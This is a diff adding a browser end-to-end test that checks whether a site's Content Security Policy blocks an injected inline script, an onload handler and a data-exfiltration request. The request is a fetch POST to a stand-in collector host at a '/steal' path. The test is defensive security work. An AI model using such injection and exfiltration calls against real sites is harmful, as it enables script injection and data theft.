@@ -1,0 +1,40 @@
+import { test, expect } from './helpers';
+
+/**
+ * The Content Security Policy is enforced in the built pages: even if some text ever slipped
+ * into the DOM as markup, an inline script or handler would not run and nothing could be sent to
+ * an origin Brick was not configured with.
+ */
+for (const path of ['/', '/s']) {
+  test(`${path}: inline script and unknown origins are refused by the page's policy`, async ({ page }) => {
+    await page.goto(path);
+    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    expect(meta).toContain("default-src 'self'");
+
+    const outcome = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+      const w = window as unknown as { __ranInline?: boolean; __ranHandler?: boolean };
+      const script = document.createElement('script');
+      script.textContent = 'window.__ranInline = true';
+      document.body.append(script);
+      const img = document.createElement('img');
+      img.setAttribute('src', 'data:image/gif;base64,R0lGODlhAQABAAAAACw=');
+      img.setAttribute('onload', 'window.__ranHandler = true');
+      document.body.append(img);
+      let fetched = 'sent';
+      try {
+        await fetch('https://collector.invalid/steal', { method: 'POST', body: 'x' });
+      } catch {
+        fetched = 'refused';
+      }
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return { inline: w.__ranInline ?? false, handler: w.__ranHandler ?? false, fetched, violations };
+    });
+
+    expect(outcome.inline).toBe(false);
+    expect(outcome.handler).toBe(false);
+    expect(outcome.fetched).toBe('refused');
+    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src']));
+  });
+}
